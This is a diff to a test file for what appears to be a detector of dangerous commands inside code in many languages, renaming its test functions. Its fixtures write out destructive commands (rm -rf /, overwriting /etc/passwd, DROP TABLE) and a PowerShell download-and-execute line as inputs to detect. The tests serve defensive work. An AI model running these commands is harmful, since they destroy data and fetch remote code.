@@ -168,7 +168,7 @@ def test_file_overwrite_in_embedded_code_is_found(language: str, code: str) -> N
     assert ": > /etc/passwd" in analysis.scripts or targets == ["/etc/passwd"]
 
 
-def test_deletion_in_a_loop_over_files_covers_every_match_of_the_pattern() -> None:
+def test_code_that_deletes_files_in_a_loop_is_reported_as_rm_of_everything_the_loop_matches() -> None:
     loop = 'import glob, os\nfor f in glob.glob("/*"):\n    os.remove(f)'
     assert analyze("python", loop).scripts == (f"rm -f -- /{STAR}", f"xargs rm -f -- /{STAR}")
     assert analyze("python", 'import os; [os.remove(f) for f in os.listdir("/etc")]').scripts == (
@@ -178,7 +178,7 @@ def test_deletion_in_a_loop_over_files_covers_every_match_of_the_pattern() -> No
     assert analyze("perl", 'unlink glob("/*")').scripts == (f"rm -f -- /{STAR}", f"xargs rm -f -- /{STAR}")
 
 
-def test_home_directory_expressions_in_embedded_code_are_resolved() -> None:
+def test_home_directory_expressions_in_python_code_are_reported_as_dollar_home() -> None:
     assert analyze("python", "import os; os.system(f\"rm -rf {os.environ['HOME']}\")").scripts == (
         "rm -rf $HOME",
     )
@@ -320,7 +320,9 @@ def test_reverse_shells_in_embedded_code_are_found(language: str, code: str) -> 
         ("powershell", "I`EX (New-Object Net.WebClient).DownloadString('http://x')", "network"),
     ],
 )
-def test_code_passed_to_eval_is_reported_with_its_origin(language: str, code: str, trait: str) -> None:
+def test_eval_of_downloaded_or_decoded_code_is_reported_with_network_or_decoded_as_its_origin(
+    language: str, code: str, trait: str
+) -> None:
     assert any(
         kind is EffectKind.RUN_UNREAD and trait in traits
         for kind, traits in effect_kinds(analyze(language, code))
@@ -338,7 +340,7 @@ def test_code_passed_to_eval_is_reported_with_its_origin(language: str, code: st
         ("php", "eval($x);"),
     ],
 )
-def test_execution_of_unknown_code_is_reported_as_unreadable(language: str, code: str) -> None:
+def test_execution_of_code_known_only_at_run_time_is_reported_as_unreadable(language: str, code: str) -> None:
     assert EffectKind.UNREADABLE in [kind for kind, _ in effect_kinds(analyze(language, code))]
 
 
@@ -488,7 +490,7 @@ def test_analysis_of_arbitrary_text_as_code_never_raises(language: str, code: st
     assert isinstance(analyze(language, code), CodeAnalysis)
 
 
-def test_shell_fed_by_an_awk_pipe_is_found() -> None:
+def test_commands_that_awk_prints_into_a_shell_are_found() -> None:
     assert analyze("awk", 'BEGIN { print "rm -rf /" | "sh" }').scripts == ("echo 'rm -rf /' | sh",)
     assert analyze("awk", '{ print "rm", $1 | "sh" }').scripts[0].endswith("| sh")
 
@@ -526,11 +528,13 @@ def test_fork_bombs_in_perl_ruby_and_php_are_found(language: str, code: str) -> 
         ("tex", r"\immediate\write18{rm -rf /}"),
     ],
 )
-def test_indirect_calls_of_shell_functions_in_code_are_found(language: str, code: str) -> None:
+def test_shell_command_started_through_an_alias_or_reflection_in_embedded_code_is_found(
+    language: str, code: str
+) -> None:
     assert "rm -rf /" in analyze(language, code).scripts
 
 
-def test_sql_in_prepared_statements_is_analyzed() -> None:
+def test_drop_table_in_an_sql_prepared_statement_is_found() -> None:
     analysis = analyze("sql:mysql", "SET @q = 'DROP TABLE users'; PREPARE s FROM @q; EXECUTE s")
     assert (EffectKind.DATABASE, frozenset({"drop"})) in effect_kinds(analysis)
 
@@ -545,7 +549,9 @@ def test_sql_in_prepared_statements_is_analyzed() -> None:
         ("node", 'let c = "rm -rf /"; if (0) c = "ls"; require("child_process").exec(c)'),
     ],
 )
-def test_every_value_assigned_to_a_variable_in_code_is_considered(language: str, code: str) -> None:
+def test_dangerous_command_in_a_variable_is_found_even_if_the_code_also_assigns_a_harmless_value(
+    language: str, code: str
+) -> None:
     assert "rm -rf /" in analyze(language, code).scripts
 
 
@@ -559,7 +565,9 @@ def test_every_value_assigned_to_a_variable_in_code_is_considered(language: str,
         ("lisp", '(run-program "rm" (list "-rf" "/"))'),
     ],
 )
-def test_shell_commands_in_less_common_languages_are_found(language: str, code: str) -> None:
+def test_shell_command_started_by_kotlin_raku_ocaml_swift_or_lisp_code_is_found(
+    language: str, code: str
+) -> None:
     assert "rm -rf /" in analyze(language, code).scripts
 
 
@@ -573,7 +581,7 @@ def test_shell_commands_in_less_common_languages_are_found(language: str, code: 
         'import os; os.system.__call__("rm -rf /")',
     ],
 )
-def test_functions_passed_as_callbacks_in_code_are_analyzed(code: str) -> None:
+def test_shell_command_started_through_a_callback_in_python_code_is_found(code: str) -> None:
     assert "rm -rf /" in analyze("python", code).scripts
 
 
@@ -597,5 +605,7 @@ def test_embedded_code_that_sends_the_environment_is_an_upload() -> None:
         ("sql:mysql", "execute '" * 1500),
     ],
 )
-def test_analysis_of_deeply_nested_or_growing_code_is_bounded(language: str, code: str) -> None:
+def test_analysis_of_deeply_nested_or_exponentially_growing_code_yields_only_short_commands(
+    language: str, code: str
+) -> None:
     assert all(len(script) < 20_000 for script in analyze(language, code).scripts)
